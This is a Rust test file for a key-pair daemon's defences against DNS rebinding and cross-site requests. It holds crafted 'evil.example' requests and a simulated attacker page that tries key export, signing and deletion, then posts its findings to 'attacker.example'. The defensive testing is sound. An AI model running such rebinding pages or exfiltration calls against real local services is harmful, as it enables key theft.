//! What a web page in a browser on this machine can reach, whether or not its name was rebound to
//! our address; and the programs that must still get in.

use std::io::{Read as _, Write as _};
use std::net::SocketAddr;
use std::os::unix::net::UnixStream;

use keypaird::proto::{CryptoProvider, NewKeyPairSettings, SignRequest, sign_request};
use prost::Message as _;
use serde_json::json;
use softhsm_tests::browser::{Attacker, Browser};
use softhsm_tests::client::settings;
use softhsm_tests::daemon::{Daemon, Home};
use softhsm_tests::frames::{self, END_HEADERS, END_STREAM, HEADERS, Peer};
use softhsm_tests::http::{Answer, BASE, exchange, send};
use softhsm_tests::keypairctl;
use softhsm_tests::tools::{Grpcurl, certificate_for, run, shell};

use super::{is, refused, wanted};

/// A request that a page would like to make.
#[derive(Debug)]
struct Wish {
    method: &'static str,
    path: String,
    content_type: &'static str,
    body: Vec<u8>,
}

/// The five: to generate, to export under a password of the page's choice, to sign by gRPC over
/// HTTP/1.1, to delete, and to cause a signature by a mere `GET`.
fn wishes() -> Vec<Wish> {
    let key_pairs = format!("{BASE}/keyPairs/signing");
    let wish = |method, path: String, content_type, body: Vec<u8>| Wish {
        method,
        path,
        content_type,
        body,
    };
    let password = json!({"password": "chosen by the page"}).to_string();
    let mut settings = wanted();
    settings["id"] = json!("made-by-the-page");
    vec![
        wish(
            "POST",
            format!("{key_pairs}/generate"),
            "application/json",
            settings.to_string().into(),
        ),
        wish(
            "POST",
            format!("{key_pairs}/k0/pkcs12"),
            "application/json",
            password.into(),
        ),
        wish(
            "POST",
            "/keypaird.v1.SigningService/Sign".to_owned(),
            "application/grpc",
            grpc_sign("k0"),
        ),
        wish("GET", format!("{key_pairs}/k0/csr"), "", Vec::new()),
        wish("DELETE", format!("{key_pairs}/k0"), "", Vec::new()),
    ]
}

/// Returns the body of a call of `Sign`.
fn grpc_sign(id: &str) -> Vec<u8> {
    let request = SignRequest {
        id: id.to_owned(),
        input: Some(sign_request::Input::Message(b"message"[..].into())),
        ..SignRequest::default()
    };
    let message = request.encode_to_vec();
    let mut body = vec![0];
    body.extend(u32::try_from(message.len()).unwrap().to_be_bytes());
    body.extend(message);
    body
}

impl Wish {
    /// Sends it with some header fields, by HTTP/1.1.
    fn send(&self, address: SocketAddr, fields: &str) -> Answer {
        let Self { method, path, .. } = self;
        let mut request = format!("{method} {path} HTTP/1.1\r\nConnection: close\r\n{fields}");
        if !self.content_type.is_empty() {
            request.push_str("Content-Type: ");
            request.push_str(self.content_type);
            request.push_str("\r\n");
        }
        let mut request = request.into_bytes();
        write!(request, "Content-Length: {}\r\n\r\n", self.body.len()).unwrap();
        request.extend(&self.body);
        exchange(address, &request)
    }
}

/// A daemon with the key pair `k0`, whose key may be exported.
async fn daemon_with_a_key() -> Daemon {
    let home = Home::local().env("KEYPAIRD__CRYPTO__LOCAL__ALLOW_EXPORT", "true");
    let daemon = home.start();
    let client = daemon.client().await;
    let k0 = NewKeyPairSettings {
        id: Some("k0".into()),
        ..settings(CryptoProvider::Unspecified)
    };
    client.generate(k0).await.unwrap();
    daemon
}

/// Returns the ids of all key pairs.
async fn ids(daemon: &Daemon) -> Vec<String> {
    let all = daemon.client().await.list_all().await;
    all.into_iter().map(|view| view.id).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn the_five_requests_of_a_page_whose_name_was_rebound_to_us_are_refused() {
    let daemon = daemon_with_a_key().await;
    let port = daemon.address().port();
    let rebound = format!(
        "Host: evil.example:{port}\r\nOrigin: http://evil.example:{port}\r\n\
         Sec-Fetch-Site: same-origin\r\n"
    );
    for wish in wishes() {
        let answer = wish.send(daemon.address(), &rebound);
        let is_grpc = wish.content_type == "application/grpc";
        if !is_grpc {
            assert_eq!(refused(&answer).0, 421, "{wish:?}: {answer:?}");
            assert_eq!(refused(&answer).1, "misdirected_request");
        }
        assert!(answer.status >= 400, "{wish:?}: {answer:?}");
    }
    assert_eq!(ids(&daemon).await, ["k0"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn each_sign_of_a_web_page_is_enough_to_refuse_a_request() {
    let daemon = daemon_with_a_key().await;
    let host = format!("Host: {}\r\n", daemon.address());
    let signs = [
        ("Host: evil.example\r\n".to_owned(), 421),
        (format!("{host}Origin: https://evil.example\r\n"), 403),
        (format!("{host}Origin: null\r\n"), 403),
        (
            format!("{host}Origin: http://{}\r\n", daemon.address()),
            403,
        ),
        (format!("{host}Origin: \r\n"), 403),
        (format!("{host}Sec-Fetch-Site: cross-site\r\n"), 403),
        (format!("{host}Sec-Fetch-Site: same-site\r\n"), 403),
        (format!("{host}Sec-Fetch-Site: same-origin\r\n"), 403),
        (
            format!("{host}Sec-Fetch-Site: none\r\nSec-Fetch-Site: cross-site\r\n"),
            403,
        ),
    ];
    for wish in wishes() {
        for (fields, status) in &signs {
            let answer = wish.send(daemon.address(), fields);
            let expected = match (wish.content_type, status) {
                // That gRPC came by HTTP/1.1 is seen first.
                ("application/grpc", _) => 505,
                _ => *status,
            };
            assert_eq!(answer.status, expected, "{fields:?}: {wish:?}");
            let result_id = match expected {
                421 => "misdirected_request",
                403 => "forbidden",
                _ => "bad_request",
            };
            assert_eq!(refused(&answer).1, result_id);
        }
    }
    assert_eq!(ids(&daemon).await, ["k0"]);
    // The same without any of the signs, as a program sends it, gRPC alone excepted.
    for wish in wishes() {
        let answer = wish.send(daemon.address(), &host);
        let expected = match (wish.method, wish.content_type) {
            (_, "application/grpc") => 505,
            ("POST", _) if wish.path.ends_with("generate") => 201,
            ("DELETE", _) => 204,
            _ => 200,
        };
        assert_eq!(answer.status, expected, "{wish:?}: {answer:?}");
    }
    assert_eq!(ids(&daemon).await, ["made-by-the-page"]);
}

#[test]
fn what_is_no_host_or_two_of_them_is_a_bad_request() {
    let daemon = Home::local().start();
    let status = |version: &str, fields: &str| {
        let request = format!("GET /healthz HTTP/{version}\r\nConnection: close\r\n{fields}\r\n");
        exchange(daemon.address(), request.as_bytes()).status
    };
    for (version, fields, expected) in [
        ("1.1", "", 400),
        ("1.1", "Host: \r\n", 400),
        ("1.1", "Host: localhost\r\nHost: localhost\r\n", 400),
        ("1.1", "Host: localhost\r\nHost: evil.example\r\n", 400),
        ("1.1", "Host: user@localhost\r\n", 400),
        ("1.1", "Host: localhost:port\r\n", 400),
        ("1.1", "Host: localhost:\r\n", 200),
        ("1.1", "Host: LocalHost.:1\r\n", 200),
        ("1.1", "Host: evil.example\r\n", 421),
        // No browser speaks HTTP/1.0, and old checks of load balancers name no host in it.
        ("1.0", "", 200),
        ("1.0", "Host: evil.example\r\n", 421),
    ] {
        assert_eq!(status(version, fields), expected, "{version} {fields:?}");
    }
    // A target with a name of its own, behind which a good one stands.
    let request =
        b"GET http://evil.example/healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n";
    assert_eq!(exchange(daemon.address(), request).status, 421);
    // HTTP/2: neither of the two, or two that differ.
    let ask = |fields: &[(&str, &str)]| {
        let mut peer = Peer::greeted(daemon.address());
        let mut all = vec![
            (":method", "GET"),
            (":scheme", "http"),
            (":path", "/healthz"),
        ];
        all.splice(
            2..2,
            fields
                .iter()
                .copied()
                .filter(|(name, _)| name.starts_with(':')),
        );
        all.extend(fields.iter().filter(|(name, _)| !name.starts_with(':')));
        let block = frames::request(&all);
        peer.send(&frames::frame(HEADERS, END_HEADERS | END_STREAM, 1, &block));
        loop {
            let frame = peer.receive().unwrap();
            if frame.kind == HEADERS {
                // The first field is the status: an index, or a literal behind the name at index 8.
                return status_of(&frame.payload);
            }
        }
    };
    assert_eq!(ask(&[]), 400);
    assert_eq!(ask(&[("host", "localhost")]), 200);
    assert_eq!(ask(&[(":authority", "localhost")]), 200);
    assert_eq!(ask(&[(":authority", "evil.example")]), 421);
    assert_eq!(
        ask(&[(":authority", "localhost"), ("host", "evil.example")]),
        421
    );
}

/// Reads the status that a header block begins with (RFC 7541, appendix A): an index, or a literal
/// with the name of index 8.
fn status_of(block: &[u8]) -> u16 {
    match block[0] {
        0x88 => 200,
        0x8c => 400,
        // With incremental indexing, Huffman coded or not.
        0x48 => {
            let (is_coded, length) = (block[1] & 0x80 != 0, usize::from(block[1] & 0x7f));
            let text = &block[2..2 + length];
            if is_coded {
                digits(text)
            } else {
                std::str::from_utf8(text).unwrap().parse().unwrap()
            }
        }
        other => panic!("a block begins with {other:#x}"),
    }
}

/// Decodes digits (RFC 7541, appendix B): `0`, `1`, `2` have five bits, the others six.
fn digits(coded: &[u8]) -> u16 {
    let bytes: Vec<_> = coded.iter().map(|byte| format!("{byte:08b}")).collect();
    let bits = bytes.concat();
    let (mut rest, mut number) = (&*bits, 0);
    for _ in 0..3 {
        let (digit, length) = match &rest[..5] {
            "00000" => (0, 5),
            "00001" => (1, 5),
            "00010" => (2, 5),
            _ => (
                u16::from_str_radix(&rest[..6], 2).unwrap() - 0b01_1001 + 3,
                6,
            ),
        };
        number = number * 10 + digit;
        rest = &rest[length..];
    }
    number
}

#[tokio::test(flavor = "multi_thread")]
async fn programs_on_other_machines_and_in_front_of_us_are_let_in_as_before() {
    let home = Home::local().with("server.hosts = [\"keys.example\", \"Proxy.Example.\"]");
    let daemon = home.start();
    let port = daemon.address().port();
    for host in [
        // The kubelet and Prometheus: the address of the pod. A load balancer: ours, or its own.
        "10.1.2.3:9443".to_owned(),
        format!("127.0.0.1:{port}"),
        "[fd00::17]:9443".to_owned(),
        "192.0.2.80".to_owned(),
        // A port forwarded to us.
        "localhost:18443".to_owned(),
        // A proxy that passes on the name that it is called by.
        "keys.example".to_owned(),
        "PROXY.example:443".to_owned(),
    ] {
        for path in ["/healthz", "/readyz", "/metrics", "/openapi.json"] {
            let agent = "User-Agent: kube-probe/1.31\r\nAccept: */*\r\n";
            let head = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n{agent}");
            let request = format!("{head}Connection: close\r\n\r\n");
            let answer = exchange(daemon.address(), request.as_bytes());
            assert_eq!(answer.status, 200, "{host} {path}");
        }
    }
    // A person who types the address.
    let typed = [
        ("Sec-Fetch-Site", "none"),
        ("Sec-Fetch-Mode", "navigate"),
        ("Sec-Fetch-Dest", "document"),
    ];
    assert_eq!(
        send(&daemon, "GET", "/openapi.json", &typed, b"").status,
        200
    );
    // The refusal tells what to do.
    let stranger = [("Host", "other.example:443")];
    let answer = send(&daemon, "GET", "/healthz", &stranger, b"");
    let (status, result_id, _) = refused(&answer);
    assert_eq!((status, &*result_id), (421, "misdirected_request"));
    let message = answer.json()["message"].as_str().unwrap().to_owned();
    assert!(
        message.contains("\"other.example\"") && message.contains("server.hosts"),
        "{message}"
    );
    let here = format!("server.listen = \"{}\"", daemon.address());
    let healthy = home.replacing("server.listen", &here).run(&["healthcheck"]);
    assert!(healthy.status.success(), "{healthy:?}");
    keypairctl::succeeded(&daemon, &["list"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn grpc_clients_are_told_that_the_name_is_not_ours() {
    let home = Home::local().with("server.hosts = [\"keys.example\"]");
    let daemon = home.start();
    let with_name = |name: &str| {
        let options = ["-plaintext", "-authority", name];
        Grpcurl::with(&options, daemon.address()).key_pairs("ListKeyAlgorithms", &json!({}))
    };
    with_name("keys.example:443").unwrap();
    let told = with_name("evil.example").unwrap_err();
    println!("{told:?}");
    assert!(
        told.message.contains("evil.example") && told.message.contains("server.hosts"),
        "{told:?}"
    );
    // With tonic: the same, with its reason.
    let endpoint = tonic::transport::Endpoint::from_shared(format!("http://{}", daemon.address()));
    let endpoint = endpoint
        .unwrap()
        .origin("http://evil.example".parse().unwrap());
    let channel = endpoint.connect().await.unwrap();
    let mut client = keypaird::proto::key_pair_service_client::KeyPairServiceClient::new(channel);
    let status = client
        .list_key_algorithms(keypaird::proto::ListKeyAlgorithmsRequest::default())
        .await
        .unwrap_err();
    assert_eq!(
        softhsm_tests::client::reason(&status),
        (tonic::Code::FailedPrecondition, "WRONG_HOST".into())
    );
}

#[test]
fn over_the_unix_socket_any_host_is_good_and_a_page_is_still_refused() {
    let home = Home::local();
    let socket = home.path("keypaird.sock");
    let home = home.with(&format!("server.unix_socket = \"{}\"", socket.display()));
    let _daemon = home.start();
    let status = |fields: &[&str]| {
        let mut arguments = vec!["-s", "-o", "/dev/null", "-w", "%{http_code}"];
        let path = socket.to_str().unwrap();
        arguments.extend(["--unix-socket", path]);
        for field in fields {
            arguments.extend(["-H", field]);
        }
        arguments.push("http://whatever.example/healthz");
        run("curl", arguments)
    };
    assert_eq!(status(&[]), "200");
    assert_eq!(status(&["Host: a"]), "200");
    assert_eq!(status(&["Origin: http://evil.example"]), "403");
    assert_eq!(status(&["Sec-Fetch-Site: cross-site"]), "403");
    // None, and two.
    assert_eq!(status(&["Host:"]), "400");
    let mut stream = UnixStream::connect(&socket).unwrap();
    let request = b"GET / HTTP/1.1\r\nHost: a\r\nHost: a\r\nConnection: close\r\n\r\n";
    stream.write_all(request).unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    assert!(answer.starts_with("HTTP/1.1 400 "), "{answer}");
}

#[test]
fn the_links_of_the_front_page_lead_on_and_nothing_else_of_a_page_does() {
    let daemon = Home::local().start();
    let ask = |path: &str, site: &str, dest: &str| {
        let fields = [
            ("Sec-Fetch-Site", site),
            ("Sec-Fetch-Mode", "navigate"),
            ("Sec-Fetch-Dest", dest),
        ];
        send(&daemon, "GET", path, &fields, b"")
    };
    let page = ask("/", "none", "document");
    assert_eq!(page.status, 200);
    assert_eq!(page.header("content-type"), "text/html; charset=utf-8");
    let policy = page.header("content-security-policy");
    assert!(policy.contains("frame-ancestors 'none'"), "{policy}");
    let text = String::from_utf8(page.body.clone()).unwrap();
    assert!(text.len() < 2048, "{}", text.len());
    for said in ["Version</th><td>0.", "local", "LOCAL", "ok", BASE] {
        assert!(text.contains(said), "{said}: {text}");
    }
    let links = text.split("href=").skip(1);
    let links = links.map(|link| {
        link.trim_start_matches('"')
            .split(['>', '"'])
            .next()
            .unwrap()
    });
    let links: Vec<_> = links.filter(|link| !link.starts_with(BASE)).collect();
    assert!(links.len() >= 5, "{links:?}");
    for link in links {
        assert_eq!(ask(link, "same-origin", "document").status, 200, "{link}");
        for (site, dest) in [
            ("cross-site", "document"),
            ("same-site", "document"),
            ("same-origin", "iframe"),
            ("same-origin", "empty"),
        ] {
            let answer = ask(link, site, dest);
            assert_eq!(refused(&answer), is(403, "forbidden", &[]), "{link}");
            let said = answer.json()["message"].as_str().unwrap().to_owned();
            assert!(said.contains(&format!("Sec-Fetch-Site: {site}")), "{said}");
        }
    }
    let list = format!("{BASE}/keyPairs/signing");
    assert_eq!(ask(&list, "same-origin", "document").status, 403);
    assert_eq!(ask(&list, "none", "document").status, 200);
}

#[test]
fn the_names_of_our_certificate_are_ours_and_change_with_it() {
    let folder = tempfile::tempdir().unwrap();
    let names = "DNS:keys.example,DNS:*.pods.example,IP:127.0.0.1";
    let lines = certificate_for(folder.path(), "server", names);
    let daemon = Home::local().with(&lines).start();
    let port = daemon.address().port();
    let status = |name: &str| {
        let script = format!(
            "curl -s -o /dev/null -w '%{{http_code}}' --insecure --resolve {name}:{port}:127.0.0.1 https://{name}:{port}/healthz"
        );
        shell(folder.path(), &script)
    };
    for (name, expected) in [
        ("localhost", "200"),
        ("keys.example", "200"),
        ("KEYS.example", "200"),
        ("a.pods.example", "200"),
        ("a.b.pods.example", "421"),
        ("pods.example", "421"),
        ("evil.example", "421"),
        ("renamed.example", "421"),
    ] {
        assert_eq!(status(name), expected, "{name}");
    }
    certificate_for(folder.path(), "server", "DNS:renamed.example");
    daemon.wait_for_log("the TLS files changed and are in use");
    assert_eq!(status("renamed.example"), "200");
    assert_eq!(status("keys.example"), "421");
}

#[test]
fn listed_origins_read_the_public_keys_and_nothing_else() {
    let home = Home::local().with("rest.cors_origins = [\"https://app.example\"]");
    let daemon = home.start();
    let ask = |method: &str, path: &str, fields: &[(&str, &str)]| {
        send(&daemon, method, path, fields, b"")
    };
    let jwks = "/.well-known/jwks.json";
    let ours = [
        ("Origin", "https://app.example"),
        ("Sec-Fetch-Site", "cross-site"),
    ];
    let answer = ask("GET", jwks, &ours);
    assert_eq!(answer.status, 200);
    assert_eq!(
        answer.header("access-control-allow-origin"),
        "https://app.example"
    );
    assert_eq!(answer.header("access-control-allow-credentials"), "");
    // A cache may not give it to another origin.
    assert_eq!(answer.header("vary"), "Origin");
    assert_eq!(ask("GET", jwks, &[]).header("vary"), "Origin");
    assert_eq!(
        ask("GET", jwks, &[]).header("access-control-allow-origin"),
        ""
    );
    let mut preflight = ours.to_vec();
    preflight.push(("Access-Control-Request-Method", "GET"));
    preflight.push(("Access-Control-Request-Headers", "if-none-match"));
    let answer = ask("OPTIONS", jwks, &preflight);
    assert_eq!((answer.status, answer.body.len()), (204, 0));
    assert_eq!(
        answer.header("access-control-allow-origin"),
        "https://app.example"
    );
    assert_eq!(answer.header("access-control-allow-methods"), "GET, HEAD");
    assert_eq!(
        answer.header("access-control-allow-headers"),
        "if-none-match, x-request-id"
    );
    // The set of one key pair is as public, and a page may see that it is the one it knows.
    let of_one = format!("{BASE}/keyPairs/signing/none/jwks.json");
    let answer = ask("GET", &of_one, &ours);
    assert_eq!(answer.status, 404);
    assert_eq!(
        answer.header("access-control-allow-origin"),
        "https://app.example"
    );
    let answer = ask("GET", jwks, &ours);
    assert_eq!(answer.header("access-control-expose-headers"), "ETag");
    for origin in [
        "https://app.example:8443",
        "http://app.example",
        "https://APP.example",
        "https://app.example.evil.example",
        "null",
    ] {
        let answer = ask("GET", jwks, &[("Origin", origin)]);
        assert_eq!(answer.status, 403, "{origin}");
        assert_eq!(answer.header("access-control-allow-origin"), "");
    }
    for (method, path) in [
        ("POST", jwks),
        ("DELETE", jwks),
        ("GET", "/.well-known/jwks.json/"),
        ("GET", "/healthz"),
        ("GET", &format!("{BASE}/keyPairs/signing")),
        ("OPTIONS", &format!("{BASE}/keyPairs/signing")),
    ] {
        assert_eq!(ask(method, path, &ours).status, 403, "{method} {path}");
    }
    // Without an origin it is unknown which page embeds it.
    let embedded = [
        ("Sec-Fetch-Site", "cross-site"),
        ("Sec-Fetch-Mode", "no-cors"),
    ];
    assert_eq!(ask("GET", jwks, &embedded).status, 403);
}

#[test]
fn hosts_and_origins_that_cannot_be_meant_are_refused_by_name() {
    let home = Home::local()
        .with("server.hosts = [\"*.example\", \"a:1\"]\nrest.cors_origins = [\"https://app.example/\", \"*\"]\nserver.max_connection_age = \"soon\"");
    let output = home.run(&["check-config"]);
    assert_eq!(output.status.code(), Some(64));
    let said = String::from_utf8_lossy(&output.stderr);
    for expected in [
        "server.hosts: \"*.example\" is not a DNS name",
        "server.hosts: \"a:1\" is not a DNS name",
        "rest.cors_origins: \"https://app.example/\" is not an origin",
        "rest.cors_origins: \"*\" is not an origin",
        "server.max_connection_age: must be a duration",
    ] {
        assert!(said.contains(expected), "{expected} is not in:\n{said}");
    }
    let from_environment = Home::local()
        .env("KEYPAIRD__SERVER__HOSTS", "a.example, b.example")
        .env("KEYPAIRD__REST__CORS_ORIGINS", "https://a.example:8443")
        .run(&["check-config"]);
    assert!(from_environment.status.success(), "{from_environment:?}");
}

#[test]
fn private_answers_are_not_cached_and_their_types_are_not_guessed() {
    let home = Home::local().env("KEYPAIRD__CRYPTO__LOCAL__ALLOW_EXPORT", "true");
    let daemon = home.start();
    let json = [("content-type", "application/json")];
    let mut settings = wanted();
    settings["id"] = json!("k0");
    let base = format!("{BASE}/keyPairs/signing");
    let body = settings.to_string();
    send(
        &daemon,
        "POST",
        &format!("{base}/generate"),
        &json,
        body.as_bytes(),
    );
    let password = br#"{"password": "correct horse"}"#;
    for (method, path, body) in [
        ("POST", format!("{base}/k0/pkcs12"), &password[..]),
        ("POST", format!("{base}/k0/pem"), password),
        ("GET", format!("{base}/k0/certificate"), b""),
        ("GET", format!("{base}/k0/csr"), b""),
        ("GET", format!("{base}/k0"), b""),
        ("GET", base.clone(), b""),
        ("GET", format!("{base}/none"), b""),
        ("GET", "/nothing".to_owned(), b""),
    ] {
        let answer = send(&daemon, method, &path, &json, body);
        assert_eq!(answer.header("cache-control"), "no-store", "{path}");
        assert_eq!(answer.header("x-content-type-options"), "nosniff", "{path}");
    }
    let jwks = send(&daemon, "GET", "/.well-known/jwks.json", &[], b"");
    assert_eq!(jwks.header("cache-control"), "public, max-age=60");
    assert_eq!(jwks.header("x-content-type-options"), "nosniff");
    let foreign = send(&daemon, "GET", "/healthz", &[("Origin", "null")], b"");
    assert_eq!(foreign.header("x-content-type-options"), "nosniff");
}

/// A real browser: a page whose name is rebound to us makes the five requests, and an application
/// at a listed origin reads the public keys.
#[tokio::test(flavor = "multi_thread")]
async fn a_page_in_chromium_reaches_nothing_and_a_listed_origin_reads_the_public_keys() {
    let attacker = Attacker::new();
    let home = Home::local()
        .env("KEYPAIRD__CRYPTO__LOCAL__ALLOW_EXPORT", "true")
        .with(&format!(
            "rest.cors_origins = [\"http://app.example:{}\"]",
            attacker.port()
        ));
    let daemon = home.start();
    let k0 = NewKeyPairSettings {
        id: Some("k0".into()),
        ..settings(CryptoProvider::Unspecified)
    };
    daemon.client().await.generate(k0).await.unwrap();
    let rebound: Vec<_> = wishes()
        .iter()
        .map(|wish| {
            let body: Vec<u8> = wish.body.clone();
            json!({"method": wish.method, "path": wish.path, "type": wish.content_type, "body": body})
        })
        .collect();
    let mut page = Vec::new();
    write!(
        page,
        r#"<!doctype html><title>page</title><script>
        const daemon = "http://{daemon}", wishes = {wishes};
        const ask = async (name, url, options) => {{
            try {{
                const answer = await fetch(url, options);
                return name + " " + answer.status + " " + answer.type;
            }} catch (error) {{ return name + " failed"; }}
        }};
        (async () => {{
            const said = [];
            if (location.hostname == "evil.example") for (const wish of wishes) {{
                const options = {{method: wish.method, headers: {{}}}};
                if (wish.type) options.headers["content-type"] = wish.type;
                if (wish.body.length) options.body = new Uint8Array(wish.body);
                said.push(await ask("rebound", wish.path, options));
            }}
            const jwks = "/.well-known/jwks.json";
            said.push(await ask("jwks", daemon + jwks));
            said.push(await ask("health", daemon + "/healthz"));
            said.push(await ask("blind", daemon + "{BASE}/keyPairs/signing/k0/csr", {{mode: "no-cors"}}));
            // To another name, for a connection to this one may lead to the daemon by now.
            const attacker = "http://attacker.example:" + location.port;
            await fetch(attacker + "/said", {{method: "POST", mode: "no-cors", body: said.join("\n")}});
        }})();
        </script>"#,
        daemon = daemon.address(),
        wishes = serde_json::to_string(&rebound).unwrap(),
    )
    .unwrap();
    attacker.serve(page, daemon.address());
    let said = |host: &str| {
        let url = format!("http://{host}:{}/page", attacker.port());
        let browser = Browser::open(&url);
        let said = attacker.said();
        drop(browser);
        said
    };
    let evil = said("evil.example");
    assert_eq!(
        evil,
        [
            "rebound 421 basic",
            "rebound 421 basic",
            "rebound 505 basic",
            "rebound 421 basic",
            "rebound 421 basic",
            "jwks failed",
            "health failed",
            "blind 0 opaque",
        ]
    );
    assert_eq!(
        said("app.example"),
        ["jwks 200 cors", "health failed", "blind 0 opaque"]
    );
    assert_eq!(ids(&daemon).await, ["k0"]);
    // What the page could not see: even the blind request was refused.
    let (_, log) = daemon.stop();
    let answered = |line: &&str| line.contains("k0/csr") && line.contains("answered");
    assert_eq!(log.lines().find(answered), None);
}
